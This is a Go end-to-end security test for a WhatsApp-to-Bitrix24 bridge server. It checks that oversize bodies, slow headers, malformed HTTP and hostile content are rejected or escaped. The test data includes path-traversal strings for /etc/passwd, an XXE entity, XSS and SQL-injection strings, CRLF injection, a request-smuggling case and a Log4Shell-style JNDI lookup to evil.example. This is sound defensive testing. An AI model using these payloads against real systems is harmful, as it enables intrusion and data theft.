package e2e_test

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"wabridge/bitrix/bitrixtest"
	"wabridge/whatsapp/whatsapptest"
)

// hostileAdminToken is the console token of the hostile-input bridge.
const hostileAdminToken = "hostile-test-admin-token-4242"

// TestHostileHTTP proves "hostile input is normal input" on the running
// binary. It sends oversize bodies (413), headers slower than the header
// timeout (cut, while the server keeps answering others), wrong content
// types, /media/ ids with traversal, encoded traversal, NUL bytes and
// garbage (404), unknown routes (404), malformed requests, and hostile
// Bitrix24 forms. Signed WhatsApp messages carrying HTML, SQL-like
// strings, BBCode, a NUL, a lone surrogate and 10,000 characters are
// acknowledged, stored, relayed, and reach the portal intact with their
// BBCode disarmed; the console shows them escaped. No answer is a 5xx, none
// carries a secret, the process never exits, and its open files and
// goroutines return to where they were.
func TestHostileHTTP(t *testing.T) {
	b := stressBridge(t, bitrixtest.Options{}, map[string]string{"admin.token": hostileAdminToken})
	h := &hostile{t: t, b: b, builder: whatsapptest.NewBuilder(), secrets: []string{testAppSecret, b.graph.Token(), hostileAdminToken,
		b.portal.ClientSecret(), b.portal.ApplicationToken()}}
	h.plain = &http.Client{Timeout: 20 * time.Second, CheckRedirect: noRedirect}
	// Sign in first: refused sign-ins would count against this address.
	h.console = h.signIn()
	baseFDs, baseGoroutines := h.resources()

	t.Run("oversize bodies", h.oversize)
	t.Run("slow headers", h.slowHeaders)
	t.Run("wrong content types", h.contentTypes)
	t.Run("media ids", h.mediaIDs)
	t.Run("unknown routes", h.unknownRoutes)
	t.Run("malformed requests", h.malformed)
	t.Run("hostile bitrix events", h.bitrixEvents)
	t.Run("hostile messages relayed and shown escaped", h.messages)
	t.Run("hostile console parameters", h.consoleParams)

	// Nothing stays behind: connections cut or closed, their goroutines
	// gone.
	h.plain.CloseIdleConnections()
	h.console.CloseIdleConnections()
	http.DefaultClient.CloseIdleConnections()
	var fds, goroutines int
	deadline := time.Now().Add(30 * time.Second)
	for {
		fds, goroutines = h.resources()
		if fds <= baseFDs+8 && goroutines <= baseGoroutines+20 {
			break
		}
		if time.Now().After(deadline) {
			t.Errorf("resources did not come back: %d open files (before: %d), %d goroutines (before: %d)",
				fds, baseFDs, goroutines, baseGoroutines)
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Logf("%d requests; open files %d → %d, goroutines %d → %d", h.count, baseFDs, fds, baseGoroutines, goroutines)

	if b.srv.cmd.ProcessState != nil {
		t.Fatalf("the server exited: %v", b.srv.cmd.ProcessState)
	}
	if hl := health(t, b.srv); hl["status"] != "ok" || hl["dead_letters"] != float64(0) {
		t.Errorf("health after the hostile input: status %v, dead letters %v", hl["status"], hl["dead_letters"])
	}
	if strings.Contains(b.srv.logs.String(), "handler panicked") || strings.Contains(b.srv.logs.String(), "goroutine ") {
		t.Errorf("a handler panicked")
	}
	if code := b.srv.stop(); code != 0 {
		t.Errorf("exit status %d after SIGTERM", code)
	}
}

// hostile holds the bridge under attack and what was sent to it.
type hostile struct {
	t       *testing.T
	b       *bridge
	builder *whatsapptest.Builder // one for the test: wamids are unique per builder
	secrets []string
	plain   *http.Client // no cookies, no redirects followed
	console *http.Client // signed in to the console
	mu      sync.Mutex
	count   int
}

func noRedirect(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }

// do sends req and returns the status and body; it fails the test on any
// 5xx and on any answer that carries a secret.
func (h *hostile) do(t *testing.T, c *http.Client, req *http.Request) (int, string) {
	t.Helper()
	h.mu.Lock()
	h.count++
	h.mu.Unlock()
	resp, err := c.Do(req)
	if err != nil {
		t.Fatalf("%s %.80s: %v", req.Method, req.URL.String(), err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 8<<20))
	h.answer(t, req.Method+" "+clipText(req.URL.String()), resp.StatusCode, string(body)+fmt.Sprint(resp.Header))
	return resp.StatusCode, string(body)
}

// answer checks one answer: no 5xx, no secret.
func (h *hostile) answer(t *testing.T, what string, status int, text string) {
	t.Helper()
	if status >= 500 {
		t.Errorf("%s: HTTP %d", what, status)
	}
	for _, s := range h.secrets {
		if s != "" && strings.Contains(text, s) {
			t.Errorf("%s: the answer carries a secret", what)
		}
	}
}

func (h *hostile) req(t *testing.T, method, path, contentType string, body io.Reader) *http.Request {
	t.Helper()
	req, err := http.NewRequest(method, h.b.srv.url+path, body)
	if err != nil {
		t.Fatal(err)
	}
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	return req
}

// expect sends a request and fails t unless the status is one of want.
func (h *hostile) expect(t *testing.T, c *http.Client, req *http.Request, want ...int) string {
	t.Helper()
	code, body := h.do(t, c, req)
	for _, w := range want {
		if code == w {
			return body
		}
	}
	t.Errorf("%s %s: HTTP %d, want %v", req.Method, clipText(req.URL.String()), code, want)
	return body
}

// unsized hides a body's length, so it goes out chunked.
type unsized struct{ io.Reader }

func (h *hostile) oversize(t *testing.T) {
	hook := "/webhook/whatsapp"
	big := bytes.Repeat([]byte("a"), 3<<20+1)
	req := h.req(t, "POST", hook, "application/json", bytes.NewReader(big))
	req.Header.Set("X-Hub-Signature-256", signFor(big))
	h.expect(t, h.plain, req, 413)
	h.expect(t, h.plain, h.req(t, "POST", hook, "application/json", unsized{bytes.NewReader(bytes.Repeat([]byte("{"), 5<<20))}), 413)
	// Just under the limit is read, and refused only for its signature.
	h.expect(t, h.plain, h.req(t, "POST", hook, "application/json", bytes.NewReader(big[:3<<20])), 401)

	form := "event=ONIMCONNECTORMESSAGEADD&data=" + strings.Repeat("x", 1<<20)
	h.expect(t, h.plain, h.req(t, "POST", "/bitrix/events", "application/x-www-form-urlencoded", strings.NewReader(form)), 413)
	h.expect(t, h.plain, h.req(t, "POST", "/bitrix/events", "application/x-www-form-urlencoded", unsized{strings.NewReader(form + form)}), 413)
	for _, p := range []string{"/bitrix/install", "/bitrix/placement", "/admin/login", "/admin/credentials"} {
		h.expect(t, h.plain, h.req(t, "POST", p, "application/x-www-form-urlencoded", strings.NewReader("a="+strings.Repeat("b", 2<<20))), 400, 403, 413)
	}
}

// slowHeaders opens connections that send their headers a byte every
// 200 ms, slower than the server's 5 s header timeout allows; each must be
// cut, and the server must answer others meanwhile.
func (h *hostile) slowHeaders(t *testing.T) {
	const conns = 20
	addr := strings.TrimPrefix(h.b.srv.url, "http://")
	cut := make(chan time.Duration, conns)
	stop := make(chan struct{})
	defer close(stop)
	start := time.Now()
	for range conns {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		go func() {
			// The writer: one byte at a time, forever.
			head := "POST /webhook/whatsapp HTTP/1.1\r\nHost: x\r\nX-Slow: "
			for i := 0; ; i++ {
				b := byte('a')
				if i < len(head) {
					b = head[i]
				}
				if _, err := c.Write([]byte{b}); err != nil {
					return
				}
				select {
				case <-stop:
					return
				case <-time.After(200 * time.Millisecond):
				}
			}
		}()
		go func() {
			// The reader: returns when the server closes the connection
			// (or answers, which would also end the attack).
			c.SetReadDeadline(time.Now().Add(60 * time.Second))
			io.Copy(io.Discard, c)
			cut <- time.Since(start)
		}()
	}
	// The server keeps answering while the slow connections hang.
	for range 5 {
		resp, body := get(t, h.b.srv.url+"/health")
		if resp.StatusCode != 200 {
			t.Fatalf("/health during the slow connections: %d %s", resp.StatusCode, body)
		}
		time.Sleep(100 * time.Millisecond)
	}
	var slowest time.Duration
	for range conns {
		select {
		case d := <-cut:
			slowest = max(slowest, d)
		case <-time.After(30 * time.Second):
			t.Fatalf("a connection sending its headers slowly was not cut within 30 s")
		}
	}
	t.Logf("%d slow connections cut, the last after %v", conns, slowest.Round(100*time.Millisecond))
}

func (h *hostile) contentTypes(t *testing.T) {
	hook := "/webhook/whatsapp"
	body, sig := h.builder.Text("content type test").Signed(testAppSecret)
	for _, ct := range []string{"text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=utf-16", "", ";;;=", "application/json; charset=\"\u00e4\""} {
		req := h.req(t, "POST", hook, "", bytes.NewReader(body))
		req.Header["Content-Type"] = []string{ct}
		req.Header.Set("X-Hub-Signature-256", sig)
		// Meta always sends JSON; a signed body is what counts.
		h.expect(t, h.plain, req, 200, 400, 415)
	}
	h.expect(t, h.plain, h.req(t, "POST", hook, "multipart/form-data; boundary=zz", strings.NewReader("--zz\r\nContent-Disposition: form-data; name=a\r\n\r\nb\r\n--zz--")), 401)
	h.expect(t, h.plain, h.req(t, "POST", hook, "application/xml", strings.NewReader(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`)), 401)

	ev := "/bitrix/events"
	h.expect(t, h.plain, h.req(t, "POST", ev, "application/json", strings.NewReader(`{"event":"ONIMCONNECTORMESSAGEADD","auth":{"application_token":"x"}}`)), 400, 403)
	h.expect(t, h.plain, h.req(t, "POST", ev, "application/x-www-form-urlencoded; charset=bogus", strings.NewReader("%zz%%&&==&event=%")), 400, 403)
	h.expect(t, h.plain, h.req(t, "POST", ev, "multipart/form-data", strings.NewReader("garbage")), 400, 403)
	h.expect(t, h.plain, h.req(t, "POST", ev, "text/plain", nil), 400, 403)
	h.expect(t, h.plain, h.req(t, "POST", "/bitrix/install", "text/xml", strings.NewReader("<install/>")), 400, 403)
	h.expect(t, h.plain, h.req(t, "POST", "/bitrix/install", "multipart/form-data; boundary=", strings.NewReader("--\r\n")), 400, 403)
	h.expect(t, h.plain, h.req(t, "POST", "/bitrix/placement", "application/json", strings.NewReader(`{"PLACEMENT":"SETTING_CONNECTOR"}`)), 400, 403)
	h.expect(t, h.plain, h.req(t, "POST", "/bitrix/placement", "application/x-www-form-urlencoded", strings.NewReader("member_id=%00&PLACEMENT_OPTIONS=%7B%7B%7B")), 400, 403)
	// A signed-in console form with a body it cannot read.
	h.expect(t, h.console, h.req(t, "POST", "/admin/credentials", "multipart/form-data; boundary=", strings.NewReader("--\r\n")), 400, 403, 415)
}

// mediaIDs asks /media/ for ids that are not ids. Every answer, after
// following the server's redirects (path cleaning), is 404, unless the
// cleaned path left /media/ (GET /media/.. lands on the landing page).
func (h *hostile) mediaIDs(t *testing.T) {
	ids := []string{
		"../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%252e%252e%252fetc%252fpasswd",
		"..", "%2e%2e", ".", "..%5c..%5cwindows%5cwin.ini", "%00", "abc%00def", "%00..%2f",
		"%ff%fe%fd", "%c0%ae%c0%ae%2f", "<script>alert(1)<%2fscript>", "'%20OR%201=1--", "%27%3B%20DROP%20TABLE%20media%3B--",
		"*", "%2A", "%25", "a%20b", "%0d%0aSet-Cookie:%20x=1", strings.Repeat("A", 8000), strings.Repeat("%2e", 2000),
		"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "0", "-1", "9223372036854775808",
	}
	for _, id := range ids {
		path := "/media/" + id
		status, final := h.follow(t, path)
		if status != 404 && (status != 200 || strings.HasPrefix(final, "/media/")) {
			t.Errorf("GET %s: HTTP %d, want 404", clipText(path), status)
		}
		req := h.req(t, "HEAD", path, "", nil)
		if code, _ := h.do(t, h.plain, req); code >= 500 {
			t.Errorf("HEAD %s: %d", clipText(path), code)
		}
	}
	// An id longer than the header limit: refused before routing or not
	// found.
	h.expect(t, h.plain, h.req(t, "GET", "/media/"+strings.Repeat("B", 70<<10), "", nil), 404, 414, 431)
}

// follow GETs path and follows redirects within the server (each answer
// checked), returning the last status and path.
func (h *hostile) follow(t *testing.T, path string) (int, string) {
	t.Helper()
	u := h.b.srv.url + path
	for range 5 {
		req, err := http.NewRequest("GET", u, nil)
		if err != nil {
			t.Fatalf("%s: %v", clipText(u), err)
		}
		code, _ := h.do(t, h.plain, req)
		if code < 300 || code >= 400 {
			return code, req.URL.Path
		}
		resp, _ := h.plain.Do(req)
		loc, err := resp.Location()
		resp.Body.Close()
		if err != nil || loc.Host != req.URL.Host {
			t.Errorf("%s: redirect to %v (%v)", clipText(u), loc, err)
			return code, ""
		}
		u = loc.String()
	}
	t.Errorf("%s: redirect loop", clipText(path))
	return 0, ""
}

func (h *hostile) unknownRoutes(t *testing.T) {
	for _, p := range []string{"/nope", "/.env", "/.git/config", "/wp-login.php", "/admin.php", "/webhook/whatsapp/extra",
		"/bitrix/events/x", "/media", "/static/../../etc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd", "/docs/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
		"/health/x", "/%00", "/%ff", "/" + strings.Repeat("x/", 2000), "/cgi-bin/%2e%2e/%2e%2e/bin/sh"} {
		if st, _ := h.follow(t, p); st != 404 {
			t.Errorf("GET %s: HTTP %d, want 404", clipText(p), st)
		}
	}
	body := h.expect(t, h.plain, h.req(t, "GET", "/docs/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", nil), 404)
	if strings.Contains(body, "<script>alert(1)") {
		t.Errorf("the 404 page echoes the path as markup")
	}
	for _, m := range []string{"DELETE", "PUT", "PATCH", "TRACE", "PROPFIND", "FOO"} {
		for _, p := range []string{"/health", "/webhook/whatsapp", "/bitrix/events", "/media/x"} {
			h.expect(t, h.plain, h.req(t, m, p, "", nil), 404, 405)
		}
		// The console's subtree: to the sign-in page, or not found.
		h.expect(t, h.plain, h.req(t, m, "/admin", "", nil), 301, 303, 307, 308, 404, 405)
	}
	h.expect(t, h.plain, h.req(t, "POST", "/health", "application/json", strings.NewReader("{}")), 404, 405)
	// Hostile query strings on real pages.
	h.expect(t, h.plain, h.req(t, "GET", "/health?<script>=1&%00=%ff", "", nil), 200)
	hs := h.expect(t, h.plain, h.req(t, "GET", "/webhook/whatsapp?hub.mode=subscribe&hub.verify_token=%3Cscript%3E&hub.challenge=%3Cscript%3Ealert(1)%3C/script%3E", "", nil), 403)
	if strings.Contains(hs, "<script>") {
		t.Errorf("the handshake refusal echoes the challenge")
	}
	req := h.req(t, "GET", "/admin/login?next="+url.QueryEscape("javascript:alert(1)"), "", nil)
	resp, err := h.console.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	page := readAll(t, resp)
	if loc := resp.Header.Get("Location"); strings.Contains(loc, "javascript") || strings.Contains(page, "javascript:alert") {
		t.Errorf("next=javascript: reflected: %q", loc)
	}
	// An X-Request-Id that is not an id is not echoed.
	req = h.req(t, "GET", "/health", "", nil)
	req.Header.Set("X-Request-Id", "<script>alert(1)</script>")
	resp, err = h.plain.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if id := resp.Header.Get("X-Request-Id"); strings.ContainsAny(id, "<>") {
		t.Errorf("X-Request-Id echoed: %q", id)
	}
}

// malformed sends raw requests no HTTP client would.
func (h *hostile) malformed(t *testing.T) {
	addr := strings.TrimPrefix(h.b.srv.url, "http://")
	cases := []struct{ name, raw string }{
		{"NUL in the path", "GET /media/a\x00b HTTP/1.1\r\nHost: x\r\n\r\n"},
		{"raw traversal", "GET /media/../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n"},
		{"backslashes", "GET /media/..\\..\\etc\\passwd HTTP/1.1\r\nHost: x\r\n\r\n"},
		{"absolute form", "GET http://evil.example/media/x HTTP/1.1\r\nHost: evil.example\r\n\r\n"},
		{"no host", "GET /health HTTP/1.1\r\n\r\n"},
		{"HTTP/1.0", "GET /health HTTP/1.0\r\n\r\n"},
		{"garbage line", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n"},
		{"bad header", "GET /health HTTP/1.1\r\nHost: x\r\nNo colon here\r\n\r\n"},
		{"header too large", "GET /health HTTP/1.1\r\nHost: x\r\nX-Big: " + strings.Repeat("a", 70<<10) + "\r\n\r\n"},
		{"many headers", "GET /health HTTP/1.1\r\nHost: x\r\n" + strings.Repeat("X-A: b\r\n", 3000) + "\r\n"},
		{"negative length", "POST /webhook/whatsapp HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n"},
		{"two lengths", "POST /webhook/whatsapp HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}"},
		{"length and chunked", "POST /bitrix/events HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"},
		{"bad chunk", "POST /bitrix/events HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n"},
		{"huge chunk size", "POST /webhook/whatsapp HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\nabc\r\n"},
		{"CRLF in path", "GET /media/x%0d%0aSet-Cookie:a=b HTTP/1.1\r\nHost: x\r\n\r\n"},
		{"request smuggling", "POST /webhook/whatsapp HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n\r\n"},
	}
	var seen []string
	for _, c := range cases {
		status, text := rawExchange(t, addr, c.raw)
		seen = append(seen, fmt.Sprintf("%s %d", c.name, status))
		h.mu.Lock()
		h.count++
		h.mu.Unlock()
		h.answer(t, c.name, status, text)
		if status == 200 && strings.Contains(text, "Set-Cookie: a=b") {
			t.Errorf("%s: header injected", c.name)
		}
	}
	t.Logf("answers (0: connection closed): %s", strings.Join(seen, ", "))
}

// rawExchange writes raw on a new connection and reads the first answer:
// its status (0 when the server closed the connection without one) and
// its text.
func rawExchange(t *testing.T, addr, raw string) (int, string) {
	t.Helper()
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(15 * time.Second))
	if _, err := io.WriteString(c, raw); err != nil {
		return 0, ""
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		if ne, ok := err.(net.Error); ok && ne.Timeout() {
			t.Errorf("no answer within 15 s to %q", clipText(raw))
		}
		return 0, ""
	}
	defer resp.Body.Close()
	var buf bytes.Buffer
	resp.Header.Write(&buf)
	io.Copy(&buf, io.LimitReader(resp.Body, 1<<20))
	return resp.StatusCode, buf.String()
}

func (h *hostile) bitrixEvents(t *testing.T) {
	p := h.b.portal
	ev := "/bitrix/events"
	form := "application/x-www-form-urlencoded"
	hostileText := `<script>alert("op")</script> [url=javascript:alert(1)]x[/url] '; DROP TABLE messages;--`
	wrong := bitrixtest.MessageAdd{HandlerID: "1", Connector: "wabridge", Line: 7, TS: time.Now().Unix(),
		Auth:     bitrixtest.Auth{ApplicationToken: "not-the-token", MemberID: p.MemberID(), Domain: p.Domain()},
		Messages: []bitrixtest.OperatorMessage{{ChatID: 1, MessageID: 1, UserID: 1, Text: hostileText, ExternalChatID: "4915112345678"}}}
	h.expect(t, h.plain, h.req(t, "POST", ev, form, bytes.NewReader(bitrixtest.MessageAddForm(wrong).Encode())), 403)
	bodies := []string{
		"", "=", "&&&", "event=", "event=" + strings.Repeat("A", 100000),
		"event=ONIMCONNECTORMESSAGEADD&data" + strings.Repeat("[a]", 50000) + "=1",
		"event=ONIMCONNECTORMESSAGEADD&" + strings.Repeat("k=v&", 100000),
		"event=ONIMCONNECTORMESSAGEADD&data[MESSAGES][99999999999999999999][message][text]=x&auth[application_token]=x",
		"event=ONIMCONNECTORMESSAGEADD&data[MESSAGES][-1][message][text]=x&auth[application_token]=x",
		"event=ONIMCONNECTORMESSAGEADD&data[MESSAGES]=notalist&auth[application_token]=" + p.ApplicationToken() + "&auth[member_id]=" + p.MemberID(),
		"event=ONIMCONNECTORMESSAGEADD&data[MESSAGES][0]=x&data[MESSAGES][0][message]=y&auth[application_token][]=x",
		"event[]=a&event[]=b&auth=x&auth[x]=y",
		"event=%E0%80%80&auth[application_token]=%00",
		"AUTH_ID=x&PLACEMENT=%3Cscript%3E",
	}
	for _, body := range bodies {
		h.expect(t, h.plain, h.req(t, "POST", ev, form, strings.NewReader(body)), 200, 400, 403)
	}
	// A genuine event with hostile operator text is taken.
	ok := wrong
	ok.Auth = p.EventAuth(27)
	h.expect(t, h.plain, h.req(t, "POST", ev, form, bytes.NewReader(bitrixtest.MessageAddForm(ok).Encode())), 200)
}

// hostileTexts are message texts a customer might send to break a
// parser, a database or a page. None uses WhatsApp's markup characters
// (*, _, ~, ```), which the relay turns into BBCode on purpose.
func hostileTexts() []string {
	long := strings.Repeat("Zeichen äöü € 😀 <b>&amp;</b> [i]x[/i] ", 400)
	long = string([]rune(long)[:10000])
	return []string{
		`<script>alert("xss")</script><img src=x onerror=alert(1)>`,
		`Robert'); DROP TABLE messages; -- " OR 1=1; DELETE FROM contacts WHERE 'a'='a`,
		`[url=https://evil.example/]click here[/url] [b]fake bold[/b] [USER=1]boss[/USER] [/code] [`,
		`{{.Secret}} ${jndi:ldap://evil.example/a} %s%s%s%n <!-- --> ]]> &amp; &#60; \u0000 \\`,
		"nul:\x00:end and \x01\x1f control",
		"rtl \u202e override \u200d zwj \ufeff bom \U0001F469\u200d\U0001F4BB",
		long,
	}
}

// messages posts signed messages with hostile texts and names, checks they
// were stored, that the portal got each text intact with its BBCode
// disarmed, and that the console shows them as text.
func (h *hostile) messages(t *testing.T) {
	b := h.b
	builder := h.builder
	names := []string{`"><script>alert(3)</script>`, `Robert'); DROP TABLE contacts;--`, strings.Repeat("Ä", 300), "\x00", "[url=x]y[/url]"}
	type sentMsg struct{ wamid, text, requestID string }
	var msgs []sentMsg
	for i, text := range hostileTexts() {
		e := builder.Text(text).From(fmt.Sprintf("4916%09d", 700+i), names[i%len(names)])
		body, sig := e.Signed(testAppSecret)
		id := fmt.Sprintf("hostile-%d", i)
		code, err := postSigned(t, h.plain, b.srv.url+"/webhook/whatsapp", id, body, sig)
		if err != nil || code != 200 {
			t.Fatalf("hostile message %d: %d %v", i, code, err)
		}
		msgs = append(msgs, sentMsg{e.ID(), text, id})
	}
	// A lone surrogate, which no encoder produces but a body may carry: it
	// reads as U+FFFD.
	e := builder.Text("lone LONE-SURROGATE end").From("4916000000799", "Kunde")
	body := bytes.Replace(e.Body(), []byte("LONE-SURROGATE"), []byte(`\ud800`), 1)
	if code, err := postSigned(t, h.plain, b.srv.url+"/webhook/whatsapp", "hostile-surrogate", body, signFor(body)); err != nil || code != 200 {
		t.Fatalf("lone surrogate: %d %v", code, err)
	}
	msgs = append(msgs, sentMsg{e.ID(), "lone \ufffd end", "hostile-surrogate"})
	for _, m := range msgs {
		if n := auditRows(t, b.in.data, `request_id = ? AND http_status = 200`, m.requestID); n != 1 {
			t.Errorf("%s: %d audit rows", m.requestID, n)
		}
	}

	got := map[string]string{}
	waitFor(t, 30*time.Second, "the hostile messages in the portal", func() bool {
		for _, s := range b.portal.SentMessages() {
			got[s.MessageID] = s.Text
		}
		for _, m := range msgs {
			if _, ok := got[m.wamid]; !ok {
				return false
			}
		}
		return true
	})
	liveTag := regexp.MustCompile(`\[/?[A-Za-z]`)
	for _, m := range msgs {
		text := got[m.wamid]
		if plain := strings.ReplaceAll(text, "\u200b", ""); plain != m.text {
			t.Errorf("%s: the portal got %q, want %q (zero-width spaces aside)", m.requestID, clipText(text), clipText(m.text))
		}
		if liveTag.MatchString(text) {
			t.Errorf("%s: the portal got live BBCode: %q", m.requestID, clipText(liveTag.FindString(text)))
		}
		if !utf8.ValidString(text) {
			t.Errorf("%s: the portal got invalid UTF-8", m.requestID)
		}
	}
	for _, s := range b.portal.SentMessages() {
		if strings.ContainsAny(s.UserName, "<>\"[];()\x00") || utf8.RuneCountInString(s.UserName) > 25 {
			t.Errorf("customer name sent to the portal: %q", s.UserName)
		}
	}

	// The console shows them as text.
	pages := []string{"/admin", "/admin/audit", "/admin/audit?source=whatsapp", "/admin/audit?q=" + url.QueryEscape("<script>alert(9)</script>"),
		"/admin/audit?q=" + url.QueryEscape("DROP TABLE"), "/admin/dead"}
	audit := h.expect(t, h.console, h.req(t, "GET", "/admin/audit?source=whatsapp", "", nil), 200)
	if !strings.Contains(audit, "&lt;script&gt;alert(") {
		t.Errorf("the audit log does not show the script tag as text")
	}
	for _, m := range regexp.MustCompile(`href="(/admin/audit/\d+)"`).FindAllStringSubmatch(audit, -1) {
		pages = append(pages, m[1])
	}
	for _, m := range regexp.MustCompile(`href="(/admin/conversations/[^"]+)"`).FindAllStringSubmatch(h.expect(t, h.console, h.req(t, "GET", "/admin", "", nil), 200), -1) {
		pages = append(pages, m[1])
	}
	unescaped := []string{`<script>alert(`, `<img src=x`, `"><script>`, `<b>&amp;</b>`}
	for _, p := range pages {
		page := h.expect(t, h.console, h.req(t, "GET", p, "", nil), 200)
		if strings.Contains(page, `id="token"`) {
			t.Fatalf("%s: signed out of the console", p)
		}
		for _, u := range unescaped {
			if strings.Contains(page, u) {
				t.Errorf("%s shows %q as markup", p, u)
			}
		}
	}
	t.Logf("%d hostile messages relayed; %d console pages checked", len(msgs), len(pages))
}

// consoleParams sends a signed-in console malformed ids, filters and
// page numbers: each is a 4xx or a page, never a 5xx, never markup.
func (h *hostile) consoleParams(t *testing.T) {
	for _, p := range []string{
		"/admin/audit?page=-1", "/admin/audit?page=99999999999999999999999", "/admin/audit?page=abc",
		"/admin/audit?from=9999-99-99&to=0000-00-00", "/admin/audit?from=%00", "/admin/audit?source=%3Cscript%3E&status=%27",
		"/admin/audit?period=%3Cscript%3E", "/admin/audit?q=" + strings.Repeat("%25_", 3000), "/admin/audit?q=%00%ff",
		"/admin/audit/-1", "/admin/audit/0", "/admin/audit/99999999999999999999", "/admin/audit/abc", "/admin/audit/1%00",
		"/admin/conversations/abc", "/admin/conversations/-1", "/admin/conversations/99999999999999999999",
		"/admin/dead/abc/discard", "/admin/dead/-1/discard", "/admin/nope", "/setup?step=%3Cscript%3E",
	} {
		page := h.expect(t, h.console, h.req(t, "GET", p, "", nil), 200, 400, 404)
		if strings.Contains(page, "<script>") {
			t.Errorf("%s: markup reflected", clipText(p))
		}
	}
	for _, p := range []string{"/admin/dead/abc/retry", "/admin/dead/-1/retry", "/admin/dead/99999999999999999999/retry",
		"/admin/audit/abc/replay", "/admin/audit/-5/replay", "/admin/dead/1%00/discard"} {
		h.expect(t, h.console, h.req(t, "POST", p, "application/x-www-form-urlencoded", strings.NewReader("x=%00")), 303, 400, 404)
	}
}

// signIn signs in to the console over plain HTTP: the admin token, then
// the authenticator set-up with a code from the secret the page shows.
func (h *hostile) signIn() *http.Client {
	c := signInConsole(h.t, h.b.srv.url, hostileAdminToken)
	c.CheckRedirect = noRedirect
	return c
}

// resources returns the server's open files and goroutines.
func (h *hostile) resources() (fds, goroutines int) {
	t := h.t
	ents, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", h.b.srv.cmd.Process.Pid))
	if err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequestWithContext(context.Background(), "GET", h.b.srv.url+"/metrics", nil)
	req.Header.Set("Authorization", "Bearer "+hostileAdminToken)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	body := readAll(t, resp)
	m := regexp.MustCompile(`(?m)^go_goroutines (\d+)`).FindStringSubmatch(body)
	if resp.StatusCode != 200 || m == nil {
		t.Fatalf("/metrics: %d, no go_goroutines", resp.StatusCode)
	}
	goroutines, _ = strconv.Atoi(m[1])
	return len(ents), goroutines
}
